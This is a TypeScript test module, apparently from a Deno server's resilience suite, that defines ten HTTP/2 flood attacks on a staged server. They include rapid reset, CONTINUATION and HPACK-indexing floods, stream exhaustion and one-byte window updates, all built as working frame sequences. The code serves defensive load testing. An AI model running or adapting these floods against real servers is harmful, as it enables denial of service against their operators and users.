/** Floods of HTTP/2, with and without TLS: what each asks for an answer, a state, or memory. */
import { discard, writeAll } from "../../../support/dial.ts";
import { flood, repeated } from "../../../support/hostile_app.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  uint32,
} from "../../../support/http2_frames.ts";
import { concat } from "../../../support/wire_frames.ts";
import type { Arena, Flood, Limit } from "../attack.ts";
import { hold, persist } from "../persist.ts";

/** Deno's HTTP server speaks HTTP/2 to whoever begins with it, and takes as many frames as come. */
const WITHOUT_TLS: Limit = {
  over: "http",
  promises: { medianMs: Infinity, p99Ms: Infinity, areAnswered: false },
  reason:
    "HTTP/2 without TLS is not limited, and belongs behind a front that speaks HTTP/1.1",
};

/** Clients at once. */
const CLIENTS = 4;

/** Header blocks of a request. */
function block({ scheme }: Arena, host: string, path = "/"): Uint8Array {
  return headerBlock([
    [":method", "GET"],
    [":scheme", scheme],
    [":authority", host],
    [":path", path],
  ]);
}

/** A client that goes on with `act` after the preface, and reads nothing if `isDeaf`. */
async function speak(
  stage: Arena,
  act: (conn: Deno.Conn) => Promise<unknown>,
  isDeaf = false,
): Promise<void> {
  const conn = await stage.connect("h2");
  await writeAll(conn, PREFACE);
  const reading = isDeaf ? undefined : discard(conn);
  await act(conn);
  await reading;
}

/** Sends what `make` returns for ever higher numbers of streams, some at a time. */
async function streams(
  conn: Deno.Conn,
  make: (stream: number) => Uint8Array,
): Promise<void> {
  for (let stream = 1; stream < 2 ** 31; stream += 200) {
    await writeAll(
      conn,
      concat(...Array.from({ length: 100 }, (_, i) => make(stream + 2 * i))),
    );
  }
}

/** Begins a header block, and goes on with `part` again and again. */
async function continueWithoutEnd(
  stage: Arena,
  conn: Deno.Conn,
  part: Uint8Array,
): Promise<void> {
  await writeAll(
    conn,
    frame(FRAME.headers, block(stage, stage.innocent), { stream: 1 }),
  );
  await flood(conn, frame(FRAME.continuation, part, { stream: 1 }));
}

function attack(
  name: string,
  about: string,
  act: (stage: Arena) => Promise<void>,
  more: Partial<Flood> = {},
): Flood {
  return {
    name,
    about: `${CLIENTS} clients ${about}`,
    keepsUp: true,
    limit: WITHOUT_TLS,
    ...more,
    run: (stage) => persist(stage, CLIENTS, () => act(stage)),
  };
}

/** The attacks. */
export const http2: readonly Flood[] = [
  attack(
    "S2-settings",
    "send SETTINGS and do not read the acknowledgements",
    (stage) => speak(stage, (conn) => flood(conn, frame(FRAME.settings)), true),
  ),
  attack(
    "h2-pings",
    "send PINGs and do not read the answers",
    (stage) =>
      speak(
        stage,
        (conn) => flood(conn, frame(FRAME.ping, new Uint8Array(8))),
        true,
      ),
  ),
  attack(
    "h2-rapid-reset",
    "reset every request at once",
    (stage) =>
      speak(stage, (conn) =>
        streams(conn, (stream) =>
          concat(
            frame(FRAME.headers, block(stage, stage.innocent), {
              flags: END_HEADERS | END_STREAM,
              stream,
            }),
            frame(FRAME.rstStream, uint32(8), { stream }),
          ))),
  ),
  attack(
    "h2-continuation",
    "send a header block without end",
    (stage) =>
      speak(
        stage,
        (conn) => continueWithoutEnd(stage, conn, headerBlock([["x", "y"]])),
      ),
  ),
  attack(
    "h2-empty-continuation",
    "send empty parts of a header block without end",
    (stage) =>
      speak(stage, (conn) => continueWithoutEnd(stage, conn, new Uint8Array())),
  ),
  attack(
    "h2-priority",
    "change the priority of streams that do not exist",
    (stage) =>
      speak(stage, (conn) =>
        streams(
          conn,
          (stream) =>
            frame(
              FRAME.priority,
              concat(uint32(0), new Uint8Array([1])),
              { stream },
            ),
        )),
  ),
  attack(
    "h2-empty-data",
    "send empty parts of an upload",
    (stage) =>
      speak(stage, async (conn) => {
        const post = headerBlock([
          [":method", "POST"],
          [":scheme", stage.scheme],
          [":authority", stage.hostile],
          [":path", "/sink"],
        ]);
        await writeAll(
          conn,
          frame(FRAME.headers, post, { flags: END_HEADERS, stream: 1 }),
        );
        await flood(conn, frame(FRAME.data, new Uint8Array(), { stream: 1 }));
      }),
  ),
  attack(
    "h2-window",
    "open the window of a download by one byte at a time",
    (stage) =>
      speak(stage, async (conn) => {
        await writeAll(
          conn,
          concat(
            // SETTINGS_INITIAL_WINDOW_SIZE of 0
            frame(FRAME.settings, new Uint8Array([0, 4, 0, 0, 0, 0])),
            frame(FRAME.headers, block(stage, stage.hostile, "/bytes"), {
              flags: END_HEADERS | END_STREAM,
              stream: 1,
            }),
          ),
        );
        const one = uint32(1);
        const unit = concat(
          frame(FRAME.windowUpdate, one, { stream: 1 }),
          frame(FRAME.windowUpdate, one),
        );
        const bytes = repeated(unit);
        while (!stage.signal.aborted) await writeAll(conn, bytes);
      }),
  ),
  attack(
    "h2-hpack",
    "send headers that are 4 KiB each and cost one byte",
    (stage) =>
      speak(stage, async (conn) => {
        // A literal with incremental indexing (RFC 7541 section 6.2.1), then references to it: index 62.
        const value = new Uint8Array(3900).fill(0x61);
        const literal = concat(
          new Uint8Array([0x40, 1, 0x78, 0x7f]),
          // 3900 as an integer with a prefix of 7 bits
          new Uint8Array([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]),
          value,
        );
        const references = new Uint8Array(8000).fill(0x80 | 62);
        let stream = 1;
        while (!stage.signal.aborted) {
          await writeAll(
            conn,
            frame(
              FRAME.headers,
              concat(block(stage, stage.innocent), literal, references),
              { flags: END_HEADERS | END_STREAM, stream },
            ),
          );
          stream += 2;
        }
      }),
  ),
  attack(
    "h2-streams",
    "keep as many downloads open as they may, and read none",
    (stage) =>
      speak(stage, async (conn) => {
        await writeAll(
          conn,
          concat(
            // SETTINGS_INITIAL_WINDOW_SIZE of 2^31 - 1, and the same for the connection
            frame(FRAME.settings, new Uint8Array([0, 4, 127, 255, 255, 255])),
            frame(FRAME.windowUpdate, uint32(2 ** 31 - 1 - 65_535)),
            ...Array.from({ length: 100 }, (_, i) =>
              frame(FRAME.headers, block(stage, stage.hostile, "/bytes"), {
                flags: END_HEADERS | END_STREAM,
                stream: 2 * i + 1,
              })),
          ),
        );
        await hold(stage);
      }, true),
  ),
];
